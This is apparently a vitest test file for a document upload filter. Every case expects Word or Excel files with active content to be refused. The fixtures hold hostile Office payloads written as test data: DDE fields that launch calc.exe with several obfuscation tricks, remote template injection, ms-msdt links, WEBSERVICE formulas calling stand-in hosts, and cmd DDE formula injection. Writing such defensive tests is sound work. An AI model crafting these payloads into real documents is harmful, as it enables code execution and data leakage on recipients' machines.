import { afterAll, describe, expect, it } from 'vitest';
import { chartOf, compound, cutLetter, docx, fateOf, field, record, related, xlsx } from './documents.testing.ts';
import { endThreads } from './take-apart.ts';

afterAll(endThreads);

describe('a letter or a workbook that acts', () => {
  it.each([
    [
      'a template from elsewhere',
      docx(related('attachedTemplate', 'https://example.com/a.dotm', 'TargetMode="External"')),
    ],
    ['a template, written with entities', docx(related('attachedTemplate', 'a.dotm', "TargetMode = '&#69;xternal'"))],
    [
      'a template, written with numbers that begin with noughts',
      docx(
        related(
          'attached&#x0000000054;emplate',
          '&#0000000104;ttp://example.com/a.dotm',
          'TargetMode="&#x0000045;xternal"',
        ),
      ),
    ],
    ['a field that starts a program, with such a number', docx('', field('&#x0000000044;DEAUTO c:\\\\calc.exe'))],
    ['a field that starts a program, as bare text', docx('', field('<![CDATA[ DDEAUTO c:\\\\calc.exe]]>'))],
    ['a field that fetches a picture, cut by a remark', docx('', field('INCLUDE<!-- -->PICTURE "http://a.example"'))],
    ['a field that fetches a picture, cut by a note', docx('', field('INCLUDE<?x y?>PICTURE "http://a.example"'))],
    [
      'a field whose begin is written with a number',
      docx(
        '',
        `${field(' PAGE ')}${field(' DDE a ')}`.replaceAll('"begin"', '"&#98;egin"').replaceAll('"end"', '"&#101;nd"'),
      ),
    ],
    [
      'a field that starts a program, behind a bracket in quotes',
      docx('', field('').replace('<w:instrText>', '<w:instrText x=">">DDEAUTO c')),
    ],
    [
      'a field that starts a program, under another prefix',
      docx('', field('DDEAUTO c').replaceAll('w:instrText', 'w-x:instrText')),
    ],
    [
      'a field that starts a program, in a part that is called relations',
      docx('', '', [{ name: 'word/main.rels', content: `<w:hdr>${field('DDEAUTO c')}</w:hdr>` }]),
    ],
    [
      'a field that starts a program, behind many blanks',
      docx('', '', [{ name: 'word/media/b.png', content: `${' '.repeat(90)}<w:hdr>${field('DDEAUTO c')}</w:hdr>` }]),
    ],
    [
      'a picture from elsewhere, said twice',
      docx(related('image', 'https://example.com/a.png', 'TargetMode="External" target="a.png" targetmode="Internal"')),
    ],
    [
      'addresses merged into it from elsewhere',
      docx('', '', [{ name: 'word/settings.xml', content: '<w:mailMerge/>' }]),
    ],
    ['a picture from elsewhere', docx(related('image', 'https://example.com/a.png', 'TargetMode="External"'))],
    ['a picture on a shared folder', docx(related('image', '\\\\host\\a.png'))],
    ['an object from elsewhere', docx(related('oleObject', 'file:///c:/a.bin', 'TargetMode="External"'))],
    [
      'another file in it',
      docx(related('package', 'embeddings/a.docx'), '', [{ name: 'word/embeddings/a.docx', content: 'x' }]),
    ],
    ['a page of the web as its text', docx(related('aFChunk', 'a.mht'))],
    ['a frame', docx(related('frame', 'https://example.com/', 'TargetMode="External"'))],
    ['a link that opens a program', docx(related('hyperlink', 'ms-msdt:/id', 'TargetMode="External"'))],
    ['a relation that only other readers understand', docx('<Relationship Type=frame Target="a"/>')],
    [
      'relations in other letters',
      docx('', '', [{ name: 'word/_rels/a.xml.rels', content: Buffer.from('<a/>', 'utf16le') }]),
    ],
    [
      'relations in an encoding that hides them',
      docx('', '', [{ name: 'word/_rels/a.xml.rels', content: '<?xml version="1.0" encoding="utf-7"?><a/>' }]),
    ],
    ['a field that starts a program, in pieces', docx('', field('DD', 'EAUTO c:\\\\calc.exe'))],
    [
      'a field that starts a program, in a part that is called a picture',
      docx('', '', [{ name: 'word/media/a.png', content: `<w:hdr>${field('DDE', ' c:\\\\calc.exe')}</w:hdr>` }]),
    ],
    [
      'a part that is called a picture and is written so that others read it',
      docx('', '', [
        { name: 'word/media/a.png', content: Buffer.from(`\ufeff<w:hdr>${field('DDE c')}</w:hdr>`, 'utf16le') },
      ]),
    ],
    ['a field that starts a program, behind a character that nobody sees', docx('', field('&#x200B;&#1;DDEAUTO c'))],
    ...['HYPERLINK "file://host/a.exe"', 'HYPERLINK \\t "_blank" "file://h/a.exe"', 'HYPERLINK "ms-msdt:/id"'].map(
      (link): [string, Buffer] => ['a field that leads to a file or a program', docx('', field(link))],
    ),
    ['a field that speaks to the printer', docx('', field(' PRINT 27 '))],
    ['a picture of before 2007 from elsewhere', docx('', '<v:imagedata src="http://a.example/b.png"/>')],
    [
      'a picture from elsewhere that is called a link',
      docx(related('hyperlink', 'http://a.example/b.png', 'TargetMode="External"'), '<a:blip r:link="rId7"/>'),
    ],
    ['a link to a shared folder', docx(related('hyperlink', '//host/a.exe', 'TargetMode="External"'))],
    [
      'a chart whose workbook acts',
      docx('', '', [
        ...chartOf('../embeddings/a.xlsx'),
        { name: 'word/embeddings/a.xlsx', content: xlsx('', '<c r="A1"><f>WEBSERVICE("http://a.example")</f></c>') },
      ]),
    ],
    [
      'a chart whose workbook is none',
      docx('', '', [...chartOf('../embeddings/a.xlsx'), { name: 'word/embeddings/a.xlsx', content: 'MZ' }]),
    ],
    ['a chart whose workbook is elsewhere', docx('', '', chartOf('embeddings/a.xlsx', 'TargetMode="External"'))],
    ['a field that starts a program, in one', docx('', '<w:fldSimple w:instr=" DDE c:\\\\calc.exe a "/>')],
  ])('is refused: a letter with %s [T19 ASVS-5.2.2 ASVS-5.3.3]', async (_, content) => {
    expect(await fateOf('a.docx', content)).toBe('FILE_UNSAFE');
  });

  it.each([
    [
      'cells of another file',
      'a.xlsx',
      xlsx(related('externalLinkPath', 'https://example.com/a.xlsx', 'TargetMode="External"')),
    ],
    ...[
      'WEBSERVICE("http://example.com/?"&amp;A2)',
      'IMPORTCSV("http://a.example")',
      '_xlws.PY(0,1)',
      'IMAGE("http://a.example")',
      'RTD("a",,"b")',
    ].map((formula): [string, string, Buffer] => [
      'a formula that fetches',
      'a.xlsx',
      xlsx('', `<c r="A1"><f>_xlfn.${formula}</f></c>`),
    ]),
    [
      'a formula between names of sheets with quotes',
      'a.xlsx',
      xlsx('', `<c r="A1"><f>'a"'!A1&amp;WEBSERVICE("http://a.example/")&amp;'b"'!A1</f></c>`),
    ],
    ...["cmd|'/c calc'!A0", 'cmd|calc!A0'].map((formula): [string, string, Buffer] => [
      'a command to another program',
      'a.xlsx',
      xlsx('', `<c r="A1"><f>${formula}</f></c>`),
    ]),
    ['a link to a shared folder', 'a.xlsx', xlsx('', '<c r="A1"><f>HYPERLINK("\\\\h\\s\\a.exe")</f></c>')],
    ['a cell of another file', 'a.xlsx', xlsx('', `<c r="A1"><f>'http://a.example/[b.xlsx]S'!A1</f></c>`)],
    ['a field that starts a program, cut in two', 'a.doc', cutLetter('\u0013 DDE', 'AUTO c:\\calc.exe')],
    ['sheets of 1995', 'a.xls', compound({ '/Book': Buffer.alloc(9) })],
    ['a query', 'a.xlsx', xlsx(related('queryTable', '../queryTables/a.xml'))],
    ['macros of before Visual Basic', 'a.xls', compound({ '/Workbook': record(0x85, [0, 0, 0, 0, 0, 1, 1, 0, 65]) })],
    ['cells of another program', 'a.xls', compound({ '/Workbook': record(0x1ae, [1, 0, 5, 0, 0, 99, 109, 100]) })],
    ['macros', 'a.xls', compound({ '/Workbook': Buffer.alloc(9), '/_VBA_PROJECT_CUR/VBA/dir': Buffer.alloc(9) })],
    [
      'another file in it',
      'a.doc',
      compound({ '/WordDocument': Buffer.alloc(9), '/ObjectPool/_1/a': Buffer.alloc(9) }),
    ],
    [
      'a field that starts a program',
      'a.doc',
      compound({ '/WordDocument': Buffer.from('\u0013 DDEAUTO c:\\calc.exe \u0014') }),
    ],
    [
      'a template from the web, whatever it is called',
      'a.doc',
      compound({ '/WordDocument': Buffer.alloc(9), '/1Table': Buffer.from('http://a.example/t.php?a=1\0', 'utf16le') }),
    ],
    ...[
      '\\\\e.cn@80\\dav\\t.dot',
      '//e.cn/s/t.dot',
      '\\\\?\\UNC\\e.cn\\t.dot',
      '\\\\服务器\\s\\t.dot',
      '/\\e.cn\\t.dot',
    ].map((place): [string, string, Buffer] => [
      'a template from elsewhere by another way',
      'a.doc',
      compound({ '/WordDocument': Buffer.alloc(9), '/1Table': Buffer.from(`\u000b${place}`, 'utf16le') }),
    ]),
    [
      'a template from elsewhere',
      'a.doc',
      compound({ '/WordDocument': Buffer.alloc(9), '/1Table': Buffer.from('\\\\host\\a.dot\0', 'utf16le') }),
    ],
  ])('is refused: a file with %s [T19 ASVS-5.2.2 ASVS-5.3.3]', async (...[, name, content]) => {
    expect(await fateOf(name, content)).toBe('FILE_UNSAFE');
  });
});
